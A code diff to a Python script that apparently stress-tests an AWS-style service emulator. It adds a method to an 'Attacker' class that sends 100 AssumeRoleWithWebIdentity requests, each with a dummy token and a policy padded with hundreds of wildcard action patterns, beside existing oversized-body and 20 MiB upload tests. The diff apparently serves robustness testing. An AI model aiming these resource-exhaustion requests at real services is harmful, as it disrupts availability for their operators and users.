@@ -11,6 +11,7 @@ import ssl
 import struct
 import sys
 import time
+import urllib.parse
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).parents[1]))
@@ -74,6 +75,26 @@ class Attacker:
         self.hold(self.http_1(head("POST", "/", announced) + body[: 60 * 1024]))
         chunked = [("Host", "x"), ("Content-Type", FORM), ("Transfer-Encoding", "chunked")]
         self.hold(self.http_1(head("POST", "/", chunked) + b"f000\r\n" + body[:0xF000]))
+
+    def policies(self):
+        """Session policies, each like no other, of many small patterns, with a token that is none."""
+        actions = ",".join(['"a:?"'] * 318)
+        connection = RawConnection(self.host, timeout=30, source=self.source)
+        for _ in range(100):
+            self.requests += 1
+            statement = f'{{"Sid":"s{self.requests}","Effect":"Allow","Resource":"*","Action":[{actions}]}}'
+            form = {
+                "Action": "AssumeRoleWithWebIdentity",
+                "Version": "2011-06-15",
+                "RoleArn": "arn:aws:iam::123456789012:role/any",
+                "RoleSessionName": "session",
+                "WebIdentityToken": "abcd",
+                "Policy": f'{{"Version":"2012-10-17","Statement":[{statement}]}}',
+            }
+            body = urllib.parse.urlencode(form).encode()
+            fields = [("Host", "x"), ("Content-Type", FORM), ("Content-Length", len(body))]
+            connection.exchange(head("POST", "/", fields) + body)
+        connection.close()
 
     def upload(self, key_id, is_whole):
         body = b'{"repositoryName":"app","layerPartBlob":"' + b"A" * 20 * MIB + b'"}'
